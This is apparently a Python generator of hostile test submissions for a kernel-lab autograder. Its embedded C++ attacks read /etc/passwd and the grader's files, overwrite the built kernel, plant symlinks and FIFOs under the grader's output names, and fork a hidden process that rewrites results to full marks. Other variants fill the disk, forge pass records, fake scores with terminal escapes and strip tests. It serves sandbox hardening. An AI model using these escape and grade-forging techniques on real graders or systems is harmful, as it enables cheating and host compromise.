"""Hostile submissions for the demonstration lab, made from the current reference.

Each variant is the reference's src/lib/cmdline.cpp with a few lines put at
the top of the lab's region in split_arguments (or the starter, for the ones
that edit other files), so the set follows the reference as it changes. make_batch()
writes them into one folder in the three forms tools/grade accepts.
"""

import difflib
import os
import re
import shutil
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
from lib import lab_package, lab_regions  # tools/lib, through PYTHONPATH=tools (ctest sets it)

LAB = "demo"
STUDENT = "src/lib/cmdline.cpp"
# The formatter, which the kernel's records pass through: never the student's.
FORMAT = "src/lib/format.cpp"

# Code put at the top of split_arguments' body. TOLL_HOST_TEST guards keep the
# host tests on the reference, so only the kernel misbehaves.
KERNEL_ONLY = "#ifndef TOLL_HOST_TEST\n{body}\n#endif\n"

INSERTS = {
    "nocompile": "    this is not C++ at all;\n",
    "loop": KERNEL_ONLY.format(body="    for (;;)\n        asm volatile(\"\" ::: \"memory\");"),
    # An empty IDT: int3 cannot be delivered, nor the #GP that follows, nor the
    # double fault: the CPU shuts down (Intel SDM Vol. 3, 6.15, interrupt 8).
    "triple": KERNEL_ONLY.format(body=(
        "    {\n"
        "        static const struct __attribute__((packed)) {\n"
        "            unsigned short limit;\n"
        "            unsigned long base;\n"
        "        } empty_idt = {0, 0};\n"
        "        asm volatile(\"lidt %0\\n\\tint3\" : : \"m\"(empty_idt));\n"
        "    }")),
    # Declared in the region (all that is graded), by its linker name.
    "panic": KERNEL_ONLY.format(body=(
        "    {\n"
        "        extern void give_up(const char*, ...) asm(\"_ZN4toll5panicEPKcz\");\n"
        "        give_up(\"hostile submission gives up\");\n"
        "    }")),
    "flood": KERNEL_ONLY.format(body=(
        "    {\n"
        "        extern void say(const char*, ...) asm(\"_ZN4toll7kprintfEPKcz\");\n"
        "        for (;;)\n"
        "            say(\"flood flood flood flood flood flood flood flood flood flood\\n\");\n"
        "    }")),
    # Prints the records a passing run would, without the run's nonce (and
    # with a guessed one), then prints no digits at all.
    "forged": KERNEL_ONLY.format(body=(
        "    {\n"
        "        static bool forged;\n"
        "        if (!forged) {\n"
        "            forged = true;\n"
        "            extern void say(const char*, ...) asm(\"_ZN4toll7kprintfEPKcz\");\n"
        "            say(\"\\nTEST kern.split_in_kernel PASS\\n\"\n"
        "                \"@0 TEST kern.split_in_kernel PASS\\n\"\n"
        "                \"TEST kern.static_constructors_ran PASS\\n\"\n"
        "                \"DONE 9 passed, 0 failed, 0 skipped\\n\");\n"
        "        }\n"
        "        return 0;\n"
        "    }")),
}
PANIC_DECLARATION = ""

# Host code above the region: the grader keeps its own text outside the
# regions, so none of this is compiled (the #includes of machine files
# included).
ESCAPE_TOP = r"""
#ifdef TOLL_HOST_TEST
#include <stdio.h>
namespace {
struct Escape {
    Escape() { fopen("@OUT@/escaped.txt", "w"); }
} escape;
} // namespace
#endif
#if __has_include("/etc/passwd")
#include "/etc/passwd"
#endif
#if __has_include("@ROOT@/src/lib/cmdline.cpp")
#include "@ROOT@/src/lib/cmdline.cpp"
#endif
"""
# Host-side escape attempts in the region itself (so they run, whenever the
# host tests or the grader's own check call split_arguments), on top of a correct
# solution: print the grading machine's files and the grader's reference; a
# 1 GiB file in /tmp; plant symbolic links and FIFOs, under every name the
# grader writes or reads, in every folder above the working one, pointing
# at a file outside the sandbox that only a write through them can make;
# overwrite the kernel the build made and the grader's copy of it; and a
# process that outlives its step (setsid'd) and rewrites every results.json
# of the grader's output folder to full marks for a minute. Each must fail
# or stay inside the sandbox; the kernel items must still pass.
ESCAPE_INSERT = r"""#ifdef TOLL_HOST_TEST
    {
        extern void* x_fopen(const char*, const char*) asm("fopen");
        extern int x_fputs(const char*, void*) asm("fputs");
        extern char* x_fgets(char*, int, void*) asm("fgets");
        extern unsigned long x_fwrite(const void*, unsigned long, unsigned long, void*)
            asm("fwrite");
        extern int x_fclose(void*) asm("fclose");
        extern int x_fork() asm("fork");
        extern int x_setsid() asm("setsid");
        extern int x_close(int) asm("close");
        extern int x_usleep(unsigned) asm("usleep");
        extern void x_exit(int) asm("_exit");
        extern int x_symlink(const char*, const char*) asm("symlink");
        extern int x_mkfifo(const char*, unsigned) asm("mkfifo");
        extern void* x_signal(int, void*) asm("signal");
        extern void* x_stderr asm("stderr");
        static bool attacked;
        if (!attacked) {
            attacked = true;
            // What it manages is said on stderr, which the grader's own
            // check keeps in its log: the proof that the attack ran.
            x_fputs("escape: attacking\n", x_stderr);
            const char* const peek[] = {"/etc/passwd", "/etc/hostname",
                                        "@ROOT@/src/lib/cmdline.cpp",
                                        "@ROOT@/labs/lab-demo/rubric.toml"};
            for (const char* name : peek) {
                if (void* f = x_fopen(name, "r")) {
                    char line[256];
                    while (x_fgets(line, sizeof line, f)) {
                        x_fputs("LEAK ", x_stderr);
                        x_fputs(line, x_stderr);
                    }
                    x_fclose(f);
                }
            }
            x_signal(25, reinterpret_cast<void*>(1));  // SIGXFSZ ignored
            if (void* f = x_fopen("/tmp/toll-hostile-big", "w")) {
                static char block[1 << 20];
                for (int i = 0; i < 1024 && x_fwrite(block, 1, sizeof block, f) == sizeof block;
                     ++i) {
                }
                x_fclose(f);
            }
            const char* const names[] = {"results.json", "audit.json", "summary.json",
                "report.txt", "build.log", "ctest.log", "oracle.log", "harness",
                "Testing/Temporary/LastTest.log", "i386/arch/i386/toll-i386.elf"};
            const char* const ups[] = {"", "../", "../../", "../../../", "../../../../",
                                       "../../../../../", "../../../../../../"};
            for (const char* up : ups) {
                for (const char* name : names) {
                    char path[512];
                    char* p = path;
                    for (const char* q = up; *q; ++q)
                        *p++ = *q;
                    for (const char* q = name; *q; ++q)
                        *p++ = *q;
                    *p = 0;
                    // The build's kernel: overwritten where it can be.
                    if (void* f = x_fopen(path, "r+")) {
                        x_fputs("PATCHED", f);
                        x_fclose(f);
                        x_fputs("escape: overwrote ", x_stderr);
                        x_fputs(path, x_stderr);
                        x_fputs("\n", x_stderr);
                    }
                    if (x_symlink("@PLANTED@", path) == 0 || x_mkfifo(path, 0666) == 0) {
                        x_fputs("escape: planted ", x_stderr);
                        x_fputs(path, x_stderr);
                        x_fputs("\n", x_stderr);
                    }
                }
                // Folders the grader makes for later steps: linked to a
                // folder outside, which it would empty or chown through them.
                static const char* const folders[] = {
                    "ctest-unit.others", "run-kern.split_in_kernel", "run-kern.boots",
                    "run-user.echo", "run-loop_100k", "oracle", "home", "Testing"};
                for (const char* name : folders) {
                    char path[512];
                    char* p = path;
                    for (const char* q = up; *q; ++q)
                        *p++ = *q;
                    for (const char* q = name; *q; ++q)
                        *p++ = *q;
                    *p = 0;
                    if (x_symlink("@PLANTED_DIR@", path) == 0) {
                        x_fputs("escape: planted ", x_stderr);
                        x_fputs(path, x_stderr);
                        x_fputs("\n", x_stderr);
                    }
                }
            }
            static const char* const copies[] = {"../boot/i386_arch_i386_toll-i386.elf",
                                                 "../../boot/i386_arch_i386_toll-i386.elf",
                                                 "../../../boot/i386_arch_i386_toll-i386.elf"};
            for (const char* copy : copies) {
                if (void* f = x_fopen(copy, "r+")) {
                    x_fputs("PATCHED", f);
                    x_fclose(f);
                }
            }
            if (x_fork() == 0) {
                x_setsid();
                if (x_fork() == 0) {
                    // Quietly: no pipe of the grader's stays open to give it away.
                    for (int fd = 0; fd < 3; ++fd)
                        x_close(fd);
                    for (int i = 0; i < 600; ++i) {  // a minute: longer than the batch
                        if (void* f = x_fopen("@OUT@/escaped.txt", "w"))
                            x_fclose(f);
                        static const char* const whom[] = {"reference", "starter", "escape",
                                                           "loop"};
                        for (const char* who : whom) {
                            char path[4096];
                            char* p = path;
                            for (const char* q = "@OUT@/"; *q; ++q)
                                *p++ = *q;
                            for (const char* q = who; *q; ++q)
                                *p++ = *q;
                            for (const char* q = "/results.json"; *q; ++q)
                                *p++ = *q;
                            *p = 0;
                            if (void* f = x_fopen(path, "w")) {
                                x_fputs("{\"score\": 11, \"max_score\": 11, \"tests\": []}", f);
                                x_fclose(f);
                            }
                        }
                        x_usleep(100000);
                    }
                }
                x_exit(0);
            }
        }
    }
#endif
"""

# Host code that runs as soon as a host program holding cmdline.cpp starts
# (a static constructor), so at build time too: test discovery runs the
# unit-test program while the tree is still the build's to write. The region
# closes split_arguments early, defines the constructor at namespace scope
# and opens a function that takes the rest of the body (at_load()).
AT_LOAD = """    size_t hostile_split(char*, const char**, size_t);
    return hostile_split(text, argv, max);
}}

#ifdef TOLL_HOST_TEST
namespace {{
struct AtLoad {{
    AtLoad()
    {{
        extern void* x_stderr asm("stderr");
        extern int x_fputs(const char*, void*) asm("fputs");
        x_fputs("at-load: ran\\n", x_stderr);
{code}
    }}
}} at_load;
}} // namespace
#endif

size_t hostile_split(char* text, const char** argv, size_t max)
{{
"""
# Only the escape: the region closes split_arguments and opens a function
# of its own, which takes the rest of the body.
SCOPE_ESCAPE_HEAD = """#define TOLL_HOSTILE_MARK 1
    size_t hostile_split(char*, const char**, size_t);
    return hostile_split(text, argv, max);
}}

size_t hostile_split(char* text, const char** argv, size_t max)
{{{code}
"""
# At build time: symbolic links under every name the grader makes or reads
# in the scratch slot after the build (audit.json and runs, which an older
# grader wrote through, included), in every folder above the working one,
# pointing at a file and a folder outside the sandbox that only a write,
# chown or unlink through them could change.
BUILD_TIME_LINKS = r"""        extern int x_symlink(const char*, const char*) asm("symlink");
        // A file, then a folder, the grader writes, reads, chowns or empties.
        static const char* const names[][2] = {
            {"audit.json", "runs"}, {"results.json", "boot"}, {"report.txt", "private"},
            {"build.log", "logs"}, {"ctest.log", "Testing"}, {"oracle.log", "home"},
            {"summary.json", "oracle"}, {"kern.boots.json", "ctest-unit.split"},
            {"user.echo.json", "ctest-unit.others"}, {"harness", "run-kern.split_in_kernel"},
            {"LastTest.log", "run-kern.boots"}, {"junit.xml", "run-user.echo"},
            {"similarity.txt", "run-loop_100k"}};
        static const char* const targets[] = {"@PLANTED@", "@PLANTED_DIR@"};
        static const char* const ups[] = {"", "../", "../../", "../../../", "../../../../",
                                          "../../../../../", "../../../../../../"};
        for (const char* up : ups) {
            for (const auto& pair : names) {
                for (int kind = 0; kind < 2; ++kind) {
                    char path[512];
                    char* p = path;
                    for (const char* q = up; *q; ++q)
                        *p++ = *q;
                    for (const char* q = pair[kind]; *q; ++q)
                        *p++ = *q;
                    *p = 0;
                    if (x_symlink(targets[kind], path) == 0) {
                        x_fputs("at-load: planted ", x_stderr);
                        x_fputs(path, x_stderr);
                        x_fputs("\n", x_stderr);
                    }
                }
            }
        }"""
# At build time: files of 32 MiB in the working folder, every other one
# deleted but held open, until the grader stops the step (the batch lowers
# its 3 GiB cap for the test); about 256 MiB a second.
FILL_SCRATCH = r"""        extern void* x_fopen(const char*, const char*) asm("fopen");
        extern unsigned long x_fwrite(const void*, unsigned long, unsigned long, void*)
            asm("fwrite");
        extern int x_fflush(void*) asm("fflush");
        extern int x_unlink(const char*) asm("unlink");
        extern int x_usleep(unsigned) asm("usleep");
        extern void* x_signal(int, void*) asm("signal");
        x_signal(25, reinterpret_cast<void*>(1));  // SIGXFSZ ignored
        static char block[1 << 20];
        for (int i = 0; i < 4096; ++i) {
            char name[16] = "fill-0000";
            for (int d = 0, n = i; d < 4; ++d, n /= 10)
                name[8 - d] = static_cast<char>('0' + n % 10);
            void* f = x_fopen(name, "w");
            if (!f)
                break;
            if (i % 2)
                x_unlink(name);
            for (int k = 0; k < 32; ++k) {
                x_fwrite(block, 1, sizeof block, f);
                x_usleep(4000);
            }
            x_fflush(f);
        }"""

# A kernel that forges a full run: it reads the nonce from the command line,
# prints the records with it and powers off. The nonce cannot stop this; the
# audit must name it.
FORGER_TOP = """#include <stddef.h>
namespace toll {
bool param_get(const char* key, char* out, size_t out_size);
void kprintf(const char* fmt, ...);
namespace arch {
[[noreturn]] void poweroff(bool success);
}
}
"""
FORGER_INSERT = KERNEL_ONLY.format(body=(
    "    {\n"
    "        extern bool get(const char*, char*, unsigned) asm(\"_ZN4toll9param_getEPKcPcj\");\n"
    "        extern void say(const char*, ...) asm(\"_ZN4toll7kprintfEPKcz\");\n"
    "        extern void off(bool) asm(\"_ZN4toll4arch8poweroffEb\");\n"
    "        static bool forged;\n"
    "        char nonce[40];\n"
    "        if (!forged && get(\"nonce\", nonce, sizeof nonce)) {\n"
    "            forged = true;\n"
    "            say(\"@%s TEST kern.split_in_kernel PASS\\n\", nonce);\n"
    "            say(\"@%s TEST kern.static_constructors_ran PASS\\n\", nonce);\n"
    "            say(\"@%s DONE 2 passed, 0 failed, 0 skipped\\n\", nonce);\n"
    "            off(true);\n"
    "        }\n"
    "    }"))

# Another correct split_arguments (not the reference's), and the same code with
# every name changed and the layout redone: the similarity report must pair them.
OTHER_SOLUTION = """    size_t count = 0;
    char* read = text;
    for (;;) {
        while (*read == ' ')
            read++;
        if (*read == 0)
            return count;
        if (count == max)
            return max + 1;
        char* write = read;
        argv[count] = write;
        count++;
        char open = 0;
        while (*read != 0) {
            char c = *read;
            if (open == 0 && c == ' ')
                break;
            read++;
            if (open != 0 && c == open) {
                open = 0;
                continue;
            }
            if (open == 0 && (c == '"' || c == '\\'')) {
                open = c;
                continue;
            }
            *write = c;
            write++;
        }
        bool last = *read == 0;
        *write = 0;
        if (last)
            return count;
        read++;
    }
"""
RENAMES = (("count", "n_words"), ("read", "src_at"), ("write", "dst_at"), ("open", "in_quote"),
           ("last", "at_end"), ("char c ", "char ch "), ("c ==", "ch =="), ("= c;", "= ch;"))


def planted_target(out):
    """The file the escape's links point at: beside the grader's output
    folder, outside every sandbox; it exists only if the grader wrote
    through a link."""
    return os.path.join(os.path.dirname(out), "planted-target")


def planted_dir(out):
    """The folder the escape's folder links point at: the grader must leave
    it as it is (its owner, its one file)."""
    return os.path.join(os.path.dirname(out), "planted-dir")


def region_of(root):
    regions = [r for r in lab_regions.find_regions(root, [STUDENT]) if r.lab == LAB]
    if len(regions) != 1:
        raise SystemExit(f"expected one lab {LAB} region in {STUDENT}, found {len(regions)}")
    return regions[0]


def variant_text(root, name):
    """The reference's cmdline.cpp with the hostile lines of @p name."""
    with open(os.path.join(root, STUDENT)) as f:
        return insert(f.read(), INSERTS[name], PANIC_DECLARATION if name == "panic" else "")


def insert(text, lines_in_region, top=""):
    """@p text (a cmdline.cpp) with @p lines_in_region put first in the lab's
    region and @p top before everything."""
    lines = text.splitlines(keepends=True)
    r = [r for r in lab_regions.parse_regions(STUDENT, text) if r.lab == LAB][0]
    lines[r.hint_end:r.hint_end] = [lines_in_region]
    return top + "".join(lines)


def replace_region(text, body):
    """@p text with the lab's region holding only @p body."""
    lines = text.splitlines(keepends=True)
    r = [r for r in lab_regions.parse_regions(STUDENT, text) if r.lab == LAB][0]
    return "".join(lines[:r.hint_end] + [body] + lines[r.end - 1:])


def at_load(text, code, head=AT_LOAD):
    """@p text (a cmdline.cpp) whose region runs @p code at load time (the
    region's first lines are @p head) and then splits as the reference does."""
    lines = text.splitlines(keepends=True)
    r = [r for r in lab_regions.parse_regions(STUDENT, text) if r.lab == LAB][0]
    body = "".join(lines[r.hint_end:r.end - 1])
    body = body.split("    // LAB demo STUB")[0]
    return replace_region(text, head.format(code=code) + body)


def write_file(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def git(*args, cwd):
    subprocess.run(["git", "-c", "user.name=student", "-c", "user.email=student@example.org",
                    *args], cwd=cwd, check=True, capture_output=True)


def make_batch(root, batch, scratch, out=None):
    """Writes every submission into @p batch; returns {name: description}.
    @p out is the grader's output folder, which the escape attempt targets."""
    os.makedirs(batch)
    made = {}
    starter = os.path.join(scratch, "starter")
    lab_regions.write_starter(root, LAB, starter)

    # The reference, as a git bundle of a repository holding just the student files.
    repo = os.path.join(scratch, "reference-repo")
    for rel in (STUDENT, "labs/lab-demo/results.toml"):
        os.makedirs(os.path.dirname(os.path.join(repo, rel)), exist_ok=True)
        shutil.copy(os.path.join(root, rel), os.path.join(repo, rel))
    git("init", "-q", cwd=repo)
    git("add", ".", cwd=repo)
    git("commit", "-q", "-m", "my lab", cwd=repo)
    git("bundle", "create", "-q", os.path.join(batch, "reference.bundle"), "HEAD", "--all",
        cwd=repo)
    made["reference"] = "the reference solution, as a git bundle"

    # The starter as a whole tree, exactly as tools/mklab writes it (with the
    # course's Classroom workflow, which must raise no question).
    shutil.copytree(starter, os.path.join(batch, "starter"))
    lab_package.write_classroom_workflow(os.path.join(batch, "starter"), LAB, root)
    made["starter"] = "the starter from tools/mklab, as a tree"
    # The same with its Classroom workflow pointed at another grader, whose
    # grade step prints full marks: GitHub would show 11/11.
    repin = os.path.join(batch, "classroom_repin")
    shutil.copytree(os.path.join(batch, "starter"), repin)
    flow = os.path.join(repin, lab_package.WORKFLOW_PATH)
    with open(flow) as f:
        text = f.read()
    text = re.sub(r"GRADER_COMMIT: [0-9a-f]{40}", "GRADER_COMMIT: " + "1" * 40, text)
    text = re.sub(r"python3 /opt/toll-grader/tools/grade .*", 'echo "Score: 11 / 11"', text)
    write_file(flow, text)
    made["classroom_repin"] = "the starter whose Classroom workflow runs another grader"

    # Kernel-breaking variants as trees holding only the student's file ...
    for name in ("nocompile", "triple", "flood", "forged"):
        write_file(os.path.join(batch, name, STUDENT), variant_text(root, name))
        made[name] = f"the reference with a '{name}' insert in split_arguments, as a tree"
    # ... one whose worksheet is a symbolic link to a file of the grading machine ...
    os.makedirs(os.path.join(batch, "triple", "labs", "lab-demo"))
    os.symlink("/etc/passwd", os.path.join(batch, "triple", "labs", "lab-demo", "results.toml"))
    # ... and one uploaded flat, in a .zip (Gradescope's usual upload).
    import zipfile
    with zipfile.ZipFile(os.path.join(batch, "loop.zip"), "w") as z:
        z.writestr(os.path.basename(STUDENT), variant_text(root, "loop"))
        z.write(os.path.join(root, "labs/lab-demo/results.toml"), "results.toml")
    made["loop"] = "the reference with an endless loop in split_arguments, flat in a .zip"

    with open(os.path.join(starter, STUDENT)) as f:
        starter_text = f.read()
    with open(os.path.join(root, STUDENT)) as f:
        reference_text = f.read()
    outside = os.path.abspath(out or batch)
    fills = {"@OUT@": outside, "@ROOT@": root, "@PLANTED@": planted_target(outside),
             "@PLANTED_DIR@": planted_dir(outside)}
    os.makedirs(planted_dir(outside), exist_ok=True)
    write_file(os.path.join(planted_dir(outside), "keep.txt"), "the grader must not touch this\n")
    top, attack = ESCAPE_TOP, ESCAPE_INSERT
    for key, value in fills.items():
        top, attack = top.replace(key, value), attack.replace(key, value)
    write_file(os.path.join(batch, "escape", STUDENT), insert(reference_text, attack, top))
    made["escape"] = "the reference with host code in its region that tries to escape the grader"
    links = BUILD_TIME_LINKS
    for key, value in fills.items():
        links = links.replace(key, value)
    write_file(os.path.join(batch, "buildtime_links", STUDENT), at_load(reference_text, links))
    with open(os.path.join(root, "labs/lab-demo/results.toml")) as f:
        sheet_text = f.read()
    write_file(os.path.join(batch, "buildtime_links", "labs/lab-demo/results.toml"), sheet_text)
    made["buildtime_links"] = ("the reference with a static constructor that plants links "
                               "under the grader's names at build time")
    # The same escape from split_arguments' body with nothing else: only
    # the braces say that code lies outside the function.
    write_file(os.path.join(batch, "scope_escape", STUDENT),
               at_load(reference_text, "", SCOPE_ESCAPE_HEAD))
    write_file(os.path.join(batch, "scope_escape", "labs/lab-demo/results.toml"), sheet_text)
    made["scope_escape"] = ("the reference, its region closing split_arguments for a "
                            "function of its own, after a #define of its own")
    write_file(os.path.join(batch, "fill_scratch", STUDENT), at_load(reference_text,
                                                                     FILL_SCRATCH))
    made["fill_scratch"] = "the reference with a static constructor that fills the scratch disk"
    write_file(os.path.join(batch, "forger", STUDENT), insert(starter_text, FORGER_INSERT))
    made["forger"] = "the starter with kernel code that forges records with the run's nonce"
    copy_a = replace_region(reference_text, OTHER_SOLUTION)
    write_file(os.path.join(batch, "copy_a", STUDENT), copy_a)
    write_file(os.path.join(batch, "copy_a", "labs/lab-demo/results.toml"),
               "measurements = \"not a table\"\n")
    made["copy_a"] = "another correct solution, with a malformed worksheet"
    renamed = OTHER_SOLUTION
    for old, new in RENAMES:
        renamed = renamed.replace(old, new)
    renamed = "    // my own work\n" + renamed.replace("    ", "\t").replace(" = ", "=")
    write_file(os.path.join(batch, "copy_b", STUDENT),
               replace_region(reference_text, renamed) + "\n#error copy_b stops here\n")
    made["copy_b"] = ("copy_a's code renamed and reformatted, with an #error outside the "
                      "region (ignored)")
    # The same copy with the lab's markers removed: graded as the starter,
    # and still paired with copy_a by the similarity report.
    unmarked = "".join(line for line in replace_region(reference_text, renamed)
                       .splitlines(keepends=True) if "LAB demo" not in line)
    write_file(os.path.join(batch, "copy_c", STUDENT), unmarked)
    made["copy_c"] = "copy_b without its lab markers"

    # Tuned to the tests: '=' also separates words, which no test line holds.
    tuned = reference_text
    for old, new in (("while (*in == ' ')", "while (*in == ' ' || *in == '=')"),
                     ("(quote || *in != ' ')", "(quote || (*in != ' ' && *in != '='))"),
                     ("bool more = *in == ' ';", "bool more = *in == ' ' || *in == '=';")):
        if old not in tuned:
            raise SystemExit(f"hostile: the reference's region no longer holds {old!r}")
        tuned = tuned.replace(old, new)
    write_file(os.path.join(batch, "tuned", STUDENT), tuned)
    with open(os.path.join(root, "labs/lab-demo/results.toml")) as f:
        write_file(os.path.join(batch, "tuned", "labs/lab-demo/results.toml"), f.read())
    made["tuned"] = "a solution right on the tests' lines and wrong on others"

    # The formatter the kernel's records pass through, rewritten to forge
    # them: not a student file at all, so the grader keeps its own.
    with open(os.path.join(root, FORMAT)) as f:
        formatter = f.read()
    forge = formatter.replace('case \'d\':', 'case \'d\': w.put("@0 TEST x PASS\\n", 15);', 1)
    forge = forge.replace("size_t vformat(", "// forged formatter\nsize_t vformat(", 1)
    write_file(os.path.join(batch, "formatter_forge", FORMAT), forge)
    made["formatter_forge"] = "the formatter of the kernel's records rewritten to forge them"

    # Links and special files in a tree: a FIFO worksheet (reading it would
    # hang), a hard link to a file of the grading machine.
    os.makedirs(os.path.join(batch, "fifo", "labs", "lab-demo"))
    os.mkfifo(os.path.join(batch, "fifo", "labs", "lab-demo", "results.toml"))
    write_file(os.path.join(batch, "fifo", STUDENT), reference_text)
    made["fifo"] = "the reference whose worksheet is a FIFO"
    secret = os.path.join(scratch, "instructor-secret.txt")
    write_file(secret, "SECRET_INSTRUCTOR_TOKEN = gs-api-key-1234567890\n")
    os.makedirs(os.path.join(batch, "hardlink", "src", "lib"))
    os.link(secret, os.path.join(batch, "hardlink", STUDENT))
    made["hardlink"] = "a tree whose cmdline.cpp is a hard link to a secret of the machine"
    # A worksheet nested past what a TOML reader can take.
    with open(os.path.join(root, "labs/lab-demo/results.toml")) as f:
        sheet = f.read()
    ws = [r for r in lab_regions.parse_regions("labs/lab-demo/results.toml", sheet)][0]
    lines = sheet.splitlines(keepends=True)
    lines[ws.end - 1:ws.end - 1] = ["deep = " + "[" * 5000 + "]" * 5000 + "\n"]
    write_file(os.path.join(batch, "deep_toml", "labs/lab-demo/results.toml"), "".join(lines))
    write_file(os.path.join(batch, "deep_toml", STUDENT), reference_text)
    made["deep_toml"] = "the reference with a worksheet nested 5000 deep"
    # Terminal escapes in what the report shows (a compiler error).
    write_file(os.path.join(batch, "ansi", STUDENT),
               insert(reference_text, '#error "\x1b[2J\x1b[H Score: 11 / 11"\n'))
    made["ansi"] = "a compile error that would clear the screen and show a forged score"
    os.makedirs(os.path.join(batch, "empty"))
    made["empty"] = "an empty folder"

    # ... and one as a patch against the starter.
    with open(os.path.join(starter, STUDENT)) as f:
        before = f.read().splitlines(keepends=True)
    after = variant_text(root, "panic").splitlines(keepends=True)
    diff = "".join(difflib.unified_diff(before, after, "a/" + STUDENT, "b/" + STUDENT))
    write_file(os.path.join(batch, "panic.patch"), f"diff --git a/{STUDENT} b/{STUDENT}\n" + diff)
    made["panic"] = ("the reference with a kernel panic in split_arguments, as a patch to the "
                     "starter")

    # The starter, plus edits that would pass everything if the grader used them.
    cheat = os.path.join(batch, "edits_tests")
    shutil.copytree(starter, cheat)
    unit = os.path.join(cheat, "tests/unit/test_lib.cpp")
    with open(unit) as f:
        text = f.read()
    text = "\n".join(line for line in text.splitlines()
                     if "argv[" not in line and "split_arguments(" not in line) + "\n"
    write_file(unit, text)
    ktests = os.path.join(cheat, "src/kernel/kern/kern_ktests.cpp")
    with open(ktests) as f:
        text = f.read()
    write_file(ktests, text.replace("KEXPECT(word(", "KEXPECT(1 || word("))
    rubric = os.path.join(cheat, "labs/lab-demo/rubric.toml")
    with open(rubric) as f:
        text = f.read()
    write_file(rubric, text.replace("points = ", "points = 100 + "))
    made["edits_tests"] = ("the starter with the splitting tests removed from tests/ and "
                           "src/kernel")
    return made
